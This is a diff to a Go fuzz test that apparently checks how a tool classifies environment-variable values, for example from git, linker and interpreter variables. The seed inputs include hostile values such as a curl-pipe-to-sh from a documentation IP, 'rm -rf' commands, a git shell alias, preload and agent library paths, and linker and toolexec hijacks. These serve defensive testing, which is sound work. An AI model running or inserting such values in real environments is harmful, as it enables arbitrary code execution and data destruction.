@@ -15,7 +15,9 @@ func FuzzEnvEffects(f *testing.F) {
 	for _, s := range []string{"/tmp/x.so", "./lib:/usr/lib", "--require /tmp/h.js -r x", "--import=data:text/javascript,1",
 		"-Mstrict -MFoo;system('id')", "-r/tmp/a.rb -I/tmp", "-javaagent:/tmp/a.jar=x -agentpath:/x.so -agentlib:jdwp",
 		"'core.pager=rm -rf /x' 'alias.x=!sh'", "|/tmp/lp.sh %s", "curl -s http://192.0.2.1/x | sh", "$HOME/x", "`id`",
-		"'unterminated", "\"a b\" 'c d'", strings.Repeat("a ", 200), strings.Repeat("-r x ", 100), ""} {
+		"'unterminated", "\"a b\" 'c d'", strings.Repeat("a ", 200), strings.Repeat("-r x ", 100), "",
+		"-C linker=/tmp/ld -C", "-Clinker=/tmp/ld\x1f-g", "-toolexec=/tmp/t -exec", "ccache /tmp/gcc", "ccache", "-fplugin=/x.so -B /tmp -B",
+		"sh -c 'rm -rf /x' #", "/dev/null", "/tmp/cfg:/etc", "--codegen=linker=./ld"} {
 		f.Add(s, uint8(0))
 		f.Add(s, uint8(7))
 		f.Add(s, uint8(29))
@@ -26,6 +28,14 @@ func FuzzEnvEffects(f *testing.F) {
 	}
 	sort.Strings(names)
 	names = append(names, "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0")
+	for _, tab := range []map[string]bool{buildProgramEnv, buildFlagEnv, buildConfigRoot} { // effects_env_build.go
+		extra := make([]string, 0, len(tab))
+		for k := range tab {
+			extra = append(extra, k)
+		}
+		sort.Strings(extra)
+		names = append(names, extra...)
+	}
 	n := New(nil, specOpts(f, Options{Workspace: "/home/user/project", Home: "/home/user"}))
 	f.Fuzz(func(t *testing.T, val string, which uint8) {
 		if len(val) > 4096 {
